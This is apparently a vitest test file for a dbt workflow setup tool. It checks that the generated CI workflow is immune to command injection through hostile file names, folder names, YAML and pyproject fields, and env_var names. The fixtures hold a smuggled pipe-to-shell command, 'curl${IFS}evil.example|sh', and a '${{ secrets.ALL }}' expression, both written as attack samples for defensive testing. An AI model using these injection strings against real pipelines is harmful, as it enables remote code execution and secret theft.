import { expect, test } from 'vitest';
import { parse } from 'yaml';
import { z } from 'zod';
import { detectRepository } from '../../src/dbt/detect/detect-repository.ts';
import { planSetUp } from '../../src/orchestrator/set-up/plan-set-up.ts';
import { WORKFLOW_PATH } from '../../src/orchestrator/set-up/set-up.ts';
import { settle } from '../../src/orchestrator/set-up/settle.ts';
import { readTemplate } from '../../src/system/workflow-templates.ts';
import { filesOf } from '../dbt/detect/trees.ts';

const STEWARD = 'acme/steward@0123456789abcdef0123456789abcdef01234567';
const EVIL = 'curl${IFS}evil.example|sh';
const EXPRESSION = '${{ secrets.ALL }}';

const workflowSchema = z.object({
  jobs: z.record(
    z.string(),
    z.object({ steps: z.array(z.object({ run: z.string().default(''), env: z.record(z.string(), z.unknown()).default({}) })) }),
  ),
});

/** The workflow that such a repository would get. */
async function workflowOf(tree: Readonly<Record<string, string>>) {
  const detected = detectRepository(filesOf(tree));
  const setUp = settle(
    { detected, config: undefined, answers: {}, pythonVersion: undefined },
    { mode: 'app', steward: STEWARD, workflowPath: WORKFLOW_PATH },
  );
  const files = planSetUp(setUp, { template: await readTemplate('app'), config: undefined, workflow: undefined, overwrite: false });
  const text = files.find(({ path }) => path === WORKFLOW_PATH)?.after ?? '';
  const steps = Object.values(workflowSchema.parse(parse(text)).jobs).flatMap((job) => job.steps);
  return { text, runs: steps.map(({ run }) => run).join('\n'), names: steps.flatMap(({ env }) => Object.keys(env)) };
}

test('set-up-of-hostile-names: Files, folders and variables of a repository are named so that the workflow of its set-up would run them', async () => {
  const requirements = 'dbt-duckdb==1.9.1\n';
  const folder = `a;${EVIL};`;
  const plain = await workflowOf({ 'dbt_project.yml': 'name: shop\nprofile: shop\n' });
  const hostile = await workflowOf({
    [`${folder}/dbt_project.yml`]: `name: "x\\n      - run: ${EVIL}"\nprofile: "${EVIL}"\n`,
    [`${folder}/requirements.txt`]: requirements,
    [`requirements-$(${EVIL}).txt`]: requirements,
    [`-r${EXPRESSION}/requirements.txt`]: requirements,
    [`${folder}/pyproject.toml`]: `[project]\nname = "a"\nrequires-python = ">=3.11; ${EVIL}"\n[dependency-groups]\n"g; ${EVIL}" = ["dbt-duckdb"]\n`,
    [`${folder}/models/a.sql`]: `select '{{ env_var("A; ${EVIL}") }}', '{{ env_var("${EXPRESSION}") }}', '{{ env_var("GOOD_NAME") }}'`,
  });

  expect(hostile.text).not.toMatch(/evil|IFS|secrets\.ALL/);
  expect(hostile.runs).toBe(plain.runs);
  expect(hostile.names.toSorted()).toEqual([...plain.names, 'GOOD_NAME'].toSorted());
});
